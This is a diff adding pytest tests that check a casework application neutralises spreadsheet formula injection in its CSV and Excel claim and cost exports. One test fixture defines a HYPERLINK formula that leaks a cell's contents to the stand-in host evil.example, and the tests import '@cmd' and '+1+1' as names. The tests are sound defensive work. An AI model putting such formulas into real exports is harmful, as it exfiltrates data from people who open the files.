@@ -132,3 +132,58 @@ def test_a_header_of_100000_columns_is_refused_at_once(cli, tmp_path):
     assert result.output.strip() == (f"{path}:1: header: has 100002 columns; a file of this kind "
                                      "has at most 9 (limit 200)")
 
+
+
+# 1. Formula injection -----------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C3,"Open record")'
+
+
+def test_spreadsheet_cells_that_start_like_a_formula_are_neutralised():
+    from casework.reports.exports import spreadsheet_cell
+
+    for value in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"):
+        assert spreadsheet_cell(value) == "'" + value
+    for value in ("Smith", "-12.50", "+3", "1200.00", 7, None, "a=b"):
+        assert spreadsheet_cell(value) == value
+
+
+def test_names_imported_as_formulas_are_text_in_every_csv_and_excel_export(
+        client, sign_in, cli, examples, tmp_path):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from .factories import create_user
+
+    examples()
+    path = tmp_path / "names.csv"
+    with path.open("w", newline="") as out:
+        csv.writer(out).writerows([["family_ref", "family_name"], ["E01", HYPERLINK],
+                                   ["E02", "+1+1"], ["E03", "@cmd"]])
+    assert cli("import", "families", path).exit_code == 0
+    cli("claims", "build", "--as-of", "2013-09-30")
+    auditor = create_user("auditor")
+    for claim in db.session.scalars(select(m.Claim)):
+        cli("claims", "validate", claim.id, "--by", auditor.email)
+    cli("claims", "batch", "--window", "Test")
+    batch = db.session.scalar(select(m.ClaimBatch))
+    sign_in("manager")
+
+    rows = list(csv.reader(io.StringIO(client.get(f"/claims/batches/{batch.id}.csv").text)))
+    names = {row[1]: row[2] for row in rows[1:]}
+    assert names["E01"] == "'" + HYPERLINK and names["E03"] == "'@cmd"
+
+    sheet = load_workbook(io.BytesIO(client.get(f"/claims/batches/{batch.id}.xlsx").data)).active
+    cells = {sheet.cell(r, 2).value: sheet.cell(r, 3) for r in range(2, sheet.max_row)}
+    assert cells["E01"].value == HYPERLINK and cells["E01"].data_type == "s"
+    assert cells["E01"].quotePrefix
+    assert all(sheet.cell(r, c).data_type != "f" for r in range(1, sheet.max_row)
+               for c in range(1, sheet.max_column + 1))
+    assert sheet.cell(sheet.max_row, 5).data_type == "f"  # the total is casework's own sum
+
+    costs = list(csv.reader(io.StringIO(client.get("/programme/costs.csv?as_of=2013-09-30").text)))
+    names = {row[0]: row[1] for row in costs[1:]}
+    assert names["E01"] == "'" + HYPERLINK and names["E02"] == "'+1+1"
+    assert all(not cell.startswith(("=", "+", "@")) for row in costs for cell in row)
